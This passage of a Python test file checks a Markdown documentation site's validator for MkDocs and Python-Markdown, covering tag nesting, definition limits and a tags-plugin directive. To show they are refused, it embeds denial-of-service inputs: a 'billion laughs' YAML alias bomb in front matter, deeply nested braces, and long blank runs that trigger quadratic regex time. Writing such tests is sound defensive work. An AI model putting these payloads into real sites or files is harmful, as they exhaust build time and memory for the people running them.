        '<a name="x">旧博客的锚点\n\n' * 400,  # a new <a> closes the one open: they never nest
        "List<String> 和 Map<String, Object> 不是 HTML。\n\n" * 400,  # names HTML does not know
        "`<div>` 是一个块元素。\n\n" * 400,  # code spans
        "```html\n<div>\n```\n\n" * 400,  # fenced code
        "<p>段落<br>换行\n\n<li>条目\n\n" * 300,  # elements a sibling closes, and void ones
    ],
)
def test_markup_that_does_not_nest_is_not_counted_as_left_open(body):
    from errata.checks import check_nesting

    assert check_nesting(body, "a.md") == []


#: Lines that are, or only look like, abbreviation and footnote definitions ({i} gives each its own name).
#: The check counts definitions where Python-Markdown's abbr and footnotes extensions find them.
DEFINITION_LINES = {
    "list item naming a reference": ("abbreviation", "* 见 [文档{i}]: 这里"),
    "list item naming a footnote-like reference": ("footnote", "- 见 [^注{i}]: 这里"),
    "abbreviation": ("abbreviation", "*[A{i}]: x"),
    "abbreviation, space before the colon": ("abbreviation", "*[A{i}] : x"),
    "abbreviation, title on the next line": ("abbreviation", "*[A{i}]:\nx"),
    "abbreviation without a title": ("abbreviation", "*[A{i}]:"),
    "abbreviation indented by a space": ("abbreviation", " *[A{i}]: x"),
    "abbreviation in a list item": ("abbreviation", "- *[A{i}]: x"),
    "abbreviation in a quote": ("abbreviation", "> *[A{i}]: x"),
    "abbreviation in fenced code": ("abbreviation", "```\n*[A{i}]: x\n```"),
    "footnote": ("footnote", "[^{i}]: x"),
    "footnote indented by three spaces": ("footnote", "   [^{i}]: x"),
    "footnote in a quote": ("footnote", "> [^{i}]: x"),
    "footnote in fenced code": ("footnote", "~~~\n[^{i}]: x\n~~~"),
}


@pytest.mark.parametrize("name", sorted(DEFINITION_LINES))
def test_the_check_counts_the_definitions_markdown_reads(name, markdown_of_the_site):
    """Fifty more such lines than the check allows: refused exactly when Markdown reads that many definitions."""
    from errata.checks import MAX_DEFINITIONS, check_nesting

    kind, line = DEFINITION_LINES[name]
    body = "\n\n".join(line.format(i=i) for i in range(MAX_DEFINITIONS[kind] + 50))
    markdown = markdown_of_the_site()
    markdown.convert(body)
    read = {"abbreviation": markdown.parser.blockprocessors["abbr"].abbrs, "footnote": markdown.parser.blockprocessors["footnote"].footnotes.footnotes}
    assert bool(check_nesting(body, "a.md")) == (len(read[kind]) > MAX_DEFINITIONS[kind])


#: Front matter that MkDocs reads without a budget and the catalogue refuses: ten aliases of ten
#: aliases … are 10⁸ strings once the theme prints the value (a description) or the search index holds it.
LAUGHS = "\n".join(['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'] + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)])


@pytest.mark.parametrize("key, bom", [("description", ""), ("search: {boost", ""), ("description", "\ufeff")])
def test_a_front_matter_the_catalogue_refuses_never_reaches_the_theme(key, bom, tmp_path):
    """The build printed a billion laughs (it ran out of time or memory); now the page gets no front matter but its
    title. MkDocs reads a file after its byte order mark, so the catalogue does too (it saw no front matter)."""
    from dev.devtools import config_for

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.md").write_text("---\ntitle: 首页\n---\n# 首页\n", encoding="utf-8")
    value = f"{key}: *a8" + ("}" if "{" in key else "")
    (docs / "laughs.md").write_text(f"{bom}---\ntitle: 笑\n{LAUGHS}\n{value}\n---\n# 笑\n\n正文。\n", encoding="utf-8")
    config = config_for(docs, tmp_path / "mkdocs.yml")
    command = [sys.executable, "-m", "mkdocs", "build", "-f", str(config), "-d", str(tmp_path / "site")]
    result = subprocess.run(command, capture_output=True, text=True, timeout=120, cwd=ROOT, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr[-3000:]
    assert "laughs.md:" in result.stderr and "aliases expand it beyond" in result.stderr
    page = (tmp_path / "site" / "laughs" / "index.html").read_text(encoding="utf-8")
    assert "lol" not in page and "<title>笑" in page


@pytest.mark.parametrize(
    "body, refused",
    [
        ("标签：\n\n<!-- material/tags -->\n", False),  # the tags page's own listing
        ("<!--\n  MATERIAL/TAGS   -->\n", False),
        ("```md\n<!-- material/tags -->\n```\n", False),
        ("x\n\n<!-- material/tags {include: [a] } -->\n", True),  # options, read as YAML: a bad or nested one ended the build
        ("x\n\n<!-- material/tags " + "{a: " * 3000 + "1" + "}" * 3000 + " -->\n", True),
        ("x\n\n<!-- material/tags" + " " * 200_000 + "x\n", True),  # no end: the plugin's pattern took minutes
        ("x\n\n" + "<!-- material/tags " * 10_000 + "\n", True),
    ],
)
def test_a_tags_listing_in_an_essay_is_the_plain_directive_or_refused(body, refused):
    """Material's tags plugin reads every page's Markdown, code too, for a listing directive; what follows it is YAML up to
    ``-->``, found by a pattern whose time grows with the square of the blanks after it when no ``-->`` comes."""
    import time

    from errata.checks import check_nesting

    start = time.perf_counter()
    problems = check_nesting(body, "a.md", first_line=5)
    assert time.perf_counter() - start < 1
    assert bool(problems) == refused
    if refused:
        assert problems[0].line == 7 and "tags listing" in problems[0].message
